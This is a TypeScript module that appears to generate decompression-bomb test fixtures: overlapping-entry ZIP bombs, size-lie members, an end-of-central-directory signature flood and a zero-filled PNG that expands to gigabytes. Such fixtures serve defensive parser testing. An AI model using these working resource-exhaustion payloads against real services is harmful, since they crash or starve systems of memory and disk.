/**
 * Generators of hostile ZIP archives and deflate streams, written byte by byte so each can lie
 * exactly where a bomb lies (shared data ranges, declared sizes, end records). Small inputs,
 * huge claims: nothing here allocates what the archive expands to.
 */
import { crc32, deflateRawSync, constants } from 'node:zlib';

export interface RawMember {
  name: string;
  /** Bytes as stored in the archive (already deflated when method is 8). */
  data: Uint8Array;
  method: 0 | 8;
  /** Declared inflated size. */
  size: number;
  crc?: number;
}

function le(bytes: number, value: number): Uint8Array {
  const out = new Uint8Array(bytes);
  for (let i = 0; i < bytes; i++) out[i] = Math.floor(value / 2 ** (8 * i)) & 0xff;
  return out;
}

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

function localHeader(m: RawMember): Uint8Array {
  const name = new TextEncoder().encode(m.name);
  return concat([
    le(4, 0x04034b50),
    le(2, 20),
    le(2, 0x800),
    le(2, m.method),
    le(4, 0),
    le(4, m.crc ?? 0),
    le(4, m.data.length),
    le(4, m.size),
    le(2, name.length),
    le(2, 0),
    name,
  ]);
}

function centralEntry(m: RawMember, offset: number): Uint8Array {
  const name = new TextEncoder().encode(m.name);
  return concat([
    le(4, 0x02014b50),
    le(2, 20),
    le(2, 20),
    le(2, 0x800),
    le(2, m.method),
    le(4, 0),
    le(4, m.crc ?? 0),
    le(4, m.data.length),
    le(4, m.size),
    le(2, name.length),
    le(2, 0),
    le(2, 0),
    le(2, 0),
    le(2, 0),
    le(4, 0),
    le(4, offset),
    name,
  ]);
}

function endRecord(entries: number, cdSize: number, cdOffset: number, comment = new Uint8Array(0)): Uint8Array {
  return concat([
    le(4, 0x06054b50),
    le(2, 0),
    le(2, 0),
    le(2, entries),
    le(2, entries),
    le(4, cdSize),
    le(4, cdOffset),
    le(2, comment.length),
    comment,
  ]);
}

/** A well-formed archive of `members` (sizes and data as given, however they lie). */
export function rawZip(members: RawMember[]): Uint8Array {
  const last = members.at(-1);
  if (!last) return endRecord(0, 0, 0);
  return sharedMemberZip(members.slice(0, -1), last, [last.name]);
}

export function storedMember(name: string, data: Uint8Array): RawMember {
  return { name, data, method: 0, size: data.length, crc: crc32(data) };
}

export function deflatedMember(name: string, data: Uint8Array): RawMember {
  return { name, data: new Uint8Array(deflateRawSync(data)), method: 8, size: data.length, crc: crc32(data) };
}

/**
 * A raw deflate stream that inflates to `unit` repeated `times` (then ends): each unit is
 * compressed once with a sync flush, so the stream is `times` copies of a few KB.
 */
export function repeatedDeflate(unit: Uint8Array, times: number): Uint8Array {
  const block = new Uint8Array(deflateRawSync(unit, { level: 9, finishFlush: constants.Z_SYNC_FLUSH }));
  const end = new Uint8Array(deflateRawSync(new Uint8Array(0)));
  const out = new Uint8Array(block.length * times + end.length);
  for (let i = 0; i < times; i++) out.set(block, i * block.length);
  out.set(end, block.length * times);
  return out;
}

const MiB = 1024 * 1024;

/**
 * The overlap bomb: one deflated member of `memberMiB` MiB of zeros, and `copies` central-directory
 * entries all pointing at its local header (60 × 60 MiB ≈ 3.7 GB from ~60 KB).
 */
export function overlapBomb(memberMiB = 60, copies = 60, declaredMiB = memberMiB): Uint8Array {
  const data = repeatedDeflate(new Uint8Array(MiB), memberMiB);
  const member: RawMember = { name: 'labels.txt', data, method: 8, size: declaredMiB * MiB };
  return sharedMemberZip(
    [],
    member,
    Array.from({ length: copies }, (_, i) => (i === 0 ? 'labels.txt' : `l${i}.txt`)),
  );
}

/**
 * An archive of `members` (each its own entry) followed by `shared`, whose one local header every
 * name in `names` points at from the central directory: many entries, one stored body.
 */
export function sharedMemberZip(members: RawMember[], shared: RawMember, names: string[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const m of members) {
    const local = concat([localHeader(m), m.data]);
    central.push(centralEntry(m, offset));
    locals.push(local);
    offset += local.length;
  }
  const sharedAt = offset;
  const local = concat([localHeader(shared), shared.data]);
  locals.push(local);
  offset += local.length;
  for (const name of names) central.push(centralEntry({ ...shared, name }, sharedAt));
  const cd = concat(central);
  return concat([...locals, cd, endRecord(central.length, cd.length, offset)]);
}

/** One member declaring `declared` bytes that inflates to `actualMiB` MiB of zeros. */
export function sizeLieBomb(declared = 1024, actualMiB = 1024, name = 'labels.txt'): Uint8Array {
  return rawZip([{ name, data: repeatedDeflate(new Uint8Array(MiB), actualMiB), method: 8, size: declared }]);
}

/**
 * An end-of-central-directory flood: a small valid archive whose trailing comment is packed with
 * EOCD signatures, each claiming 65,535 entries of a central directory at the archive's start.
 */
export function eocdFlood(
  inner: Uint8Array = rawZip([storedMember('labels.txt', new TextEncoder().encode('a\nb\n'))]),
) {
  const fake = endRecord(0xfffe, 0, 0).subarray(0, 22);
  const commentBytes = 65535 - (65535 % 22);
  const comment = new Uint8Array(commentBytes);
  for (let at = 0; at + 22 <= commentBytes; at += 22) comment.set(fake, at);
  // Re-point the real end record's comment length at the flood.
  const out = concat([inner, comment]);
  const eocd = inner.length - 22;
  out[eocd + 20] = commentBytes & 0xff;
  out[eocd + 21] = commentBytes >> 8;
  return out;
}

/**
 * A PNG whose IHDR says `width`×`height` RGB and whose IDAT really holds every row, all zeros:
 * the compressed stream is a few hundred KB, the pixels are width × height × 3 bytes.
 */
export function zeroPng(width: number, height: number, rowsPerUnit = 100): Uint8Array {
  const row = width * 3 + 1;
  const units = Math.ceil(height / rowsPerUnit);
  const raw = repeatedDeflate(new Uint8Array(row * rowsPerUnit), units);
  const total = row * rowsPerUnit * units;
  const adler = (((total % 65521) << 16) | 1) >>> 0;
  const zlibStream = concat([new Uint8Array([0x78, 0xda]), raw, be32(adler)]);
  const ihdr = concat([be32(width), be32(height), new Uint8Array([8, 2, 0, 0, 0])]);
  return concat([
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlibStream),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

function be32(value: number): Uint8Array {
  return new Uint8Array([(value >>> 24) & 0xff, (value >>> 16) & 0xff, (value >>> 8) & 0xff, value & 0xff]);
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const typed = concat([new TextEncoder().encode(type), data]);
  return concat([be32(data.length), typed, be32(crc32(typed))]);
}
